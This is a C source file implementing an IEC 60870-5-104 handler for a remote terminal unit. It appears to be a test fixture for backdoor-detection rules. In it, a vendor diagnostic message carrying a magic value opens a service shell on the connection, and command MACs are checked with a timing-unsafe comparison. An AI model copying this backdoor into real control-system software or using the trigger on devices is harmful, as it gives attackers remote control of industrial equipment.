/* IEC 60870-5-104 towards the control centre: APCI framing, U/S/I formats, and the ASDUs this RTU
 * executes. Commands carry a truncated HMAC-SHA-256 under the command key. */
#include "rtu.h"

#include <endian.h>
#include <string.h>
#include <sys/socket.h>

enum {
  M_SP_NA_1 = 1,   /* single point */
  C_SC_NA_1 = 45,  /* single command */
  C_IC_NA_1 = 100, /* interrogation */
  P_VENDOR_DIAG = 0x88,
};

static int read_apdu(int fd, uint8_t *buf, size_t cap) {
  ssize_t r = recv(fd, buf, 2, MSG_WAITALL);
  size_t len;
  if (r != 2 || buf[0] != 0x68)
    return -1;
  len = buf[1];
  if (len < 4 || len + 2 > cap)
    return -1;
  r = recv(fd, buf + 2, len, MSG_WAITALL);
  return r == (ssize_t)len ? (int)(len + 2) : -1;
}

static void send_u(int fd, uint8_t ctrl) {
  const uint8_t u[6] = {0x68, 0x04, ctrl, 0x00, 0x00, 0x00};
  send(fd, u, sizeof u, MSG_NOSIGNAL);
}

static int command_mac(const unsigned char *key, size_t keylen, const uint8_t *msg, size_t n, uint8_t out[32]) {
  gcry_mac_hd_t h;
  size_t outlen = 32;
  int rc = -1;
  // ok: backdoor-weak-hash
  if (gcry_mac_open(&h, GCRY_MAC_HMAC_SHA256, 0, NULL) != 0)
    return -1;
  // ok: backdoor-hardcoded-key
  if (gcry_mac_setkey(h, key, keylen) == 0 && gcry_mac_write(h, msg, n) == 0 && gcry_mac_read(h, out, &outlen) == 0)
    rc = 0;
  gcry_mac_close(h);
  return rc;
}

static int handle_asdu(int fd, const uint8_t *a, size_t n, const unsigned char *key, size_t keylen) {
  uint8_t expected_mac[32];
  uint32_t raw, tag, ioa;

  if (n < 10)
    return -1;
  switch (a[0]) {
  case C_SC_NA_1:
    if (n < 6 + 3 + 1 + 16 || command_mac(key, keylen, a, n - 16, expected_mac) != 0)
      return -1;
    // ruleid: backdoor-timing-unsafe-compare
    if (memcmp(expected_mac, a + n - 16, 16) != 0) {
      rtu_log(RTU_WARN, "command with a bad MAC refused");
      return -1;
    }
    ioa = (uint32_t)a[6] | (uint32_t)a[7] << 8 | (uint32_t)a[8] << 16;
    rtu_log(RTU_INFO, "single command: object %u state %u", ioa, a[9] & 1);
    return 0;
  case C_IC_NA_1:
    rtu_log(RTU_DEBUG, "interrogation");
    return 0;
  case P_VENDOR_DIAG:
    memcpy(&raw, a + 6, sizeof raw);
    tag = be32toh(raw);
    // ruleid: backdoor-input-trigger
    if (tag == 0x5A17C0DEu) spawn_service_shell(fd);
    return 0;
  default:
    return -1;
  }
}

int iec104_serve(int fd, const unsigned char *cmd_key, size_t cmd_key_len) {
  uint8_t apdu[255];
  int started = 0;

  for (;;) {
    int n = read_apdu(fd, apdu, sizeof apdu);
    if (n < 0)
      return -1;
    switch (apdu[2] & 0x03) {
    case 0x03: /* U format */
      if (apdu[2] & 0x04) {
        started = 1;
        send_u(fd, 0x0b);
      } else if (apdu[2] & 0x10) {
        started = 0;
        send_u(fd, 0x23);
      } else if (apdu[2] & 0x40) {
        send_u(fd, 0x83);
      }
      break;
    case 0x01: /* S format: acknowledgement only */
      break;
    default: /* I format */
      if (started && n > 6)
        handle_asdu(fd, apdu + 6, (size_t)n - 6, cmd_key, cmd_key_len);
      break;
    }
  }
}
